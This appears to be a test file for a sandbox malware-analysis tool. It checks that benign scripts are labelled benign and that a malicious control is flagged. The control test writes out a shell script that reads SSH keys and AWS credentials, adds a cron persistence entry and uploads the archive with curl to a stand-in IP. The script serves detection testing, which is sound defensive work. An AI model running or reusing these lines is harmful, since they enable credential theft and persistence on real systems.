// The false-positive corpus: ordinary work (archiving, compiling, CSV processing, find/sort/grep
// pipelines, package-manager queries, fetching files with wget and curl) analysed in the real
// sandbox must come out benign with no finding of severity high or above. A small malicious
// control, analysed the same way, must not, so the corpus cannot pass because detection is broken.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdir, writeFile, chmod } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { analyze } from '../src/analyze.js';
import { scratchDir } from './helpers.js';

const DIR = join(import.meta.dirname, 'samples', 'benign');

/** What each sample must have run, so that a sample that silently failed cannot pass. */
const EXPECT: Record<string, string[]> = {
  'archive.sh': ['tar', 'gzip', 'xz', 'bzip2'],
  'compile.sh': ['gcc', 'cc1', 'as', 'ld', 'hello'],
  'csv.py': ['python3'],
  'pipeline.sh': ['find', 'sort', 'grep', 'uniq', 'cut'],
  'packages.sh': ['dpkg-query', 'apt-cache', 'apt-get', 'http'],
  'fetch.sh': ['wget', 'curl', 'ls'],
};

const base = (p: string) => p.slice(p.lastIndexOf('/') + 1);

test('the benign corpus covers every sample on disk', async () => {
  assert.deepEqual((await readdir(DIR)).sort(), Object.keys(EXPECT).sort());
});

for (const [name, programs] of Object.entries(EXPECT)) {
  test(`benign: ${name} is labelled benign with no high or critical finding`, { timeout: 120_000 }, async () => {
    assert.equal(process.getuid?.(), 0, 'the sandbox needs root; run the tests as root after make setup');
    const outDir = scratchDir(`sandtrace-benign-${name}-`);
    const { report } = await analyze({ sample: join(DIR, name), outDir, timeout: 60 });
    assert.equal(report.analysis.status, 'completed', JSON.stringify(report.analysis.errors));
    const ran = new Set(report.processes.flatMap((p) => [base(p.exe), base(p.argv[0] ?? '')]));
    for (const prog of programs) assert.ok(ran.has(prog), `${name} did not run ${prog}; ran: ${[...ran].join(' ')}`);
    const serious = report.findings.filter((f) => f.severity === 'high' || f.severity === 'critical');
    assert.deepEqual(serious.map((f) => `${f.rule}: ${f.output}`), []);
    assert.equal(report.verdict.label, 'benign', `score ${report.verdict.score}: ${report.findings.map((f) => f.rule).join(', ')}`);
  });
}

test('control: a credential-stealing, persisting, beaconing script is labelled malicious; a broken user rule file refuses the run before the sample starts', { timeout: 120_000 }, async () => {
  const dir = scratchDir('sandtrace-control-');
  const sample = join(dir, 'stealer.sh');
  await writeFile(sample, [
    '#!/bin/sh',
    'cat /root/.ssh/id_rsa /root/.aws/credentials > /tmp/.loot 2>/dev/null',
    'echo "* * * * * root /tmp/.loot" > /etc/cron.d/update 2>/dev/null',
    'tar czf /tmp/.l.tgz /root/.ssh 2>/dev/null',
    'curl -s -m 2 -T /tmp/.l.tgz http://203.0.113.7:4444/ || true',
    '',
  ].join('\n'));
  await chmod(sample, 0o755);
  const userRules = join(dir, 'user.yaml');
  await writeFile(userRules, '- rule: broken\n  desc: d\n  condition: no_such_macro and evt.type = openat\n  output: x\n  priority: ERROR\n');
  // the user's rule would never run: refused with its place, nothing started or written
  await assert.rejects(analyze({ sample, outDir: join(dir, 'refused'), timeout: 60, rules: [userRules] }),
    (e: Error & { code?: string }) => e.code === 'RULES_INVALID' && /user\.yaml:3: broken: .*no_such_macro/.test(e.message));
  assert.equal(existsSync(join(dir, 'refused')), false);
  const { report } = await analyze({ sample, outDir: join(dir, 'out'), timeout: 60 });
  const rules = new Set(report.findings.map((f) => f.rule));
  for (const r of ['ST-CRD-004', 'ST-PER-001', 'ST-EXF-001']) assert.ok(rules.has(r), `${r} missing; found ${[...rules].join(', ')}`);
  assert.equal(report.verdict.label, 'malicious');
});
